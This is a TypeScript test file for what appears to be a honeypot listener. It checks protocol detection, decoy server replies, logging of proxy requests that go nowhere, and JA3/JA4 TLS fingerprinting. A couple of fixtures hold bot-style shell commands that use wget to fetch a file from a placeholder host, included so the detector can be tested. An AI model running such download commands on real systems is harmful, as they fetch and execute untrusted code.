import { describe, expect, it } from 'vitest';
import { identify } from '../catchall/identify.ts';
import { bodyOf, meet, type Stage } from '../play.ts';
import { ja3, ja4, readClientHello } from '../tls/client-hello.ts';
import { catchall } from './catchall.ts';

async function say(bytes: string, stage: Stage = {}) {
  const talk = meet(catchall, stage);
  const answer = (await talk.say(bytes)) + (await talk.leave());
  expect(talk.faults).toEqual([]);
  return {
    answer,
    talk,
    bodies: talk.events.map(bodyOf).filter(({ kind }) => kind !== 'connect' && kind !== 'close'),
  };
}

const smb = '\0\0\0\x2f\xffSMBr\0\0\0\0\x18\x01\x28';

describe('what it looks like', () => {
  it.each<[string, string]>([
    ['sip', 'OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nUser-Agent: friendly-scanner\r\n\r\n'],
    ['rtsp', 'OPTIONS rtsp://192.0.2.1/ RTSP/1.0\r\nCSeq: 3\r\n\r\n'],
    ['http', 'GET / HTTP/1.1\r\n\r\n'],
    ['ssh', 'SSH-2.0-Go\r\n'],
    ['rdp', '\x03\0\0\x13\x0e\xe0\0\0\0\0\0\x01\0\x08\0\x03\0\0\0'],
    ['smb', smb],
    ['redis', '*1\r\n$4\r\nINFO\r\n'],
    ['socks5', '\x05\x01\0'],
    ['socks4', '\x04\x01\0\x50\xc0\0\x02\x01\0'],
    ['mqtt', '\x10\x10\0\x04MQTT\x04\x02\0\x3c\0\x04test'],
    ['memcached', 'stats\r\n'],
    ['adb', 'CNXN\0\0\0\x01'],
    ['postgres', '\0\0\0\x08\x04\xd2\x16\x2f'],
    ['cotp', '\x03\0\0\x16\x11\xe0\0\0\0\x01\0\xc1\x02\x01\0\xc2\x02\x01\x02\xc0\x01\x0a'],
    ['rmi', 'JRMI\0\x02K'],
    ['modbus', '\0\0\0\0\0\x05\0\x2b\x0e\x01\0'],
    ['shell', 'cd /tmp; wget http://192.0.2.9/x'],
    ['text', 'hello\r\n'],
    ['binary', '\x01\x02\x03'],
  ])('%s', async (name, bytes) => {
    expect(identify(Buffer.from(bytes, 'latin1')).name).toBe(name);
    expect((await say(bytes)).bodies).toContainEqual(
      expect.objectContaining({ kind: 'fingerprint', method: 'protocol', value: name }),
    );
  });
});

describe('its answers', () => {
  it('is a web server where one is asked for, and silent where told so', async () => {
    expect((await say('GET /x HTTP/1.1\r\nHost: a\r\n\r\n')).answer).toMatch(
      /^HTTP\/1\.1 404 Not Found\r\nServer: nginx/,
    );
    const quiet = await say('GET /x HTTP/1.1\r\nHost: a\r\n\r\n', { options: { silent: true } });
    expect(quiet.answer).toBe('');
    expect(quiet.bodies.at(-1)).toEqual({ kind: 'data', size: 28 });
  });

  it('tells where a proxy was asked to go, and goes nowhere', async () => {
    const talk = meet(catchall);
    expect(await talk.say('\x05\x01\0')).toBe('\x05\0');
    expect(await talk.say('\x05\x01\0\x03\x0bexample.com\x01\xbb')).toBe('\x05\x05\0\x01\0\0\0\0\0\0');
    expect(talk.events.map(bodyOf)).toContainEqual({
      kind: 'forward',
      host: 'example.com',
      port: 443,
      detail: { how: 'socks5', command: 1 },
    });
    const four = await say('\x04\x01\0\x50\xc0\0\x02\x01\0');
    expect(four.answer).toBe('\0\x5b\0\0\0\0\0\0');
    expect(four.bodies).toContainEqual({
      kind: 'forward',
      host: '192.0.2.1',
      port: 80,
      detail: { how: 'socks4', user: '' },
    });
  });

  it('keeps what it does not know, and finds what it would fetch', async () => {
    const { bodies, talk } = await say(`\x01\x02${'A'.repeat(300)};wget http://192.0.2.9/x;`);
    expect(bodies.slice(1)).toMatchObject([
      { kind: 'data', size: 327 },
      { kind: 'download', url: 'http://192.0.2.9/x', tool: 'wget' },
    ]);
    expect(talk.payloads.size).toBe(1);
  });
});

// A ClientHello of OpenSSL 3.0's s_client to 127.0.0.1 without a name, made of its parts.
const u16 = (...list: number[]) => Buffer.from(list.flatMap((value) => [value >> 8, value & 255]));
const sized = (width: 1 | 2, ...parts: Buffer[]) => {
  const body = Buffer.concat(parts);
  return Buffer.concat([width === 1 ? Buffer.from([body.length]) : u16(body.length), body]);
};
const extension = (type: number, ...parts: Buffer[]) => Buffer.concat([u16(type), sized(2, ...parts)]);
function clientHello({
  ciphers = [0x0a0a, 0x1301, 0x1302, 0xc02f],
  alpn = 'h2',
  name = 'example.test',
} = {}): Buffer {
  const body = Buffer.concat([
    u16(0x0303),
    Buffer.alloc(32, 7),
    sized(1),
    sized(2, u16(...ciphers)),
    sized(1, Buffer.from([0])),
    sized(
      2,
      extension(0x1a1a),
      ...(name ? [extension(0, sized(2, Buffer.from([0]), sized(2, Buffer.from(name))))] : []),
      extension(10, sized(2, u16(0x2a2a, 29, 23))),
      extension(11, sized(1, Buffer.from([0]))),
      extension(13, sized(2, u16(0x0403, 0x0804))),
      extension(16, sized(2, sized(1, Buffer.from(alpn)))),
      extension(43, sized(1, u16(0x3a3a, 0x0304, 0x0303))),
    ),
  ]);
  const message = Buffer.concat([Buffer.from([1, 0, body.length >> 8, body.length & 255]), body]);
  return Buffer.concat([Buffer.from([22, 3, 1]), sized(2, message)]);
}

describe('TLS', () => {
  it('reads a ClientHello, cut anywhere, also over two records', () => {
    const bytes = clientHello();
    const hello = readClientHello(bytes)!;
    expect(hello).toMatchObject({ serverName: 'example.test', alpn: ['h2'], groups: [0x2a2a, 29, 23] });
    for (let cut = 0; cut < bytes.length; cut++)
      expect(readClientHello(bytes.subarray(0, cut))).toBeUndefined();
    const body = bytes.subarray(5);
    const two = Buffer.concat([22, 23].map(() => Buffer.alloc(0)));
    const record = (part: Buffer) => Buffer.concat([Buffer.from([22, 3, 1]), sized(2, part)]);
    expect(
      readClientHello(Buffer.concat([two, record(body.subarray(0, 50)), record(body.subarray(50))])),
    ).toEqual(hello);
  });

  it('makes JA3 and JA4 without GREASE', () => {
    const hello = readClientHello(clientHello())!;
    // md5('771,4865-4866-49199,0-10-11-13-16-43,29-23,0')
    expect(ja3(hello)).toBe(ja3({ ...hello, ciphers: hello.ciphers.slice(1) }));
    expect(ja4(hello)).toMatch(/^t13d0306h2_[0-9a-f]{12}_[0-9a-f]{12}$/);
    expect(ja4(readClientHello(clientHello({ name: '' }))!)).toMatch(/^t13i0305h2_/);
    expect(ja4(hello).split('_')[1]).toBe(
      ja4({ ...hello, ciphers: [...hello.ciphers].reverse() }).split('_')[1],
    );
  });

  // The example of FoxIO-LLC/ja4, technical_details/JA4.md.
  it('makes the JA4 of its specification', () => {
    const words = (text: string) => text.split(',').map((one) => Number.parseInt(one, 16));
    const extensions = '001b,0000,0033,0010,4469,0017,002d,000d,0005,0023,0012,002b,ff01,000b,000a,0015';
    const ciphers = '1301,1302,1303,c02b,c02f,c02c,c030,cca9,cca8,c013,c014,009c,009d,002f,0035';
    const signatures = '0403,0804,0401,0503,0805,0501,0806,0601';
    expect(
      ja4({
        ...readClientHello(clientHello())!,
        ciphers: words(ciphers),
        extensions: words(extensions),
        signatures: words(signatures),
      }),
    ).toBe('t13d1516h2_8daaf6152771_e5627efa2ab1');
  });

  it('is refused with an alert and told of', async () => {
    const { answer, bodies } = await say(clientHello().toString('latin1'));
    expect(answer).toBe('\x15\x03\x01\0\x02\x02\x28');
    expect(bodies.map((body) => (body.kind === 'fingerprint' ? body.method : body.kind))).toEqual([
      'protocol',
      'ja3',
      'ja4',
      'data',
    ]);
  });
});
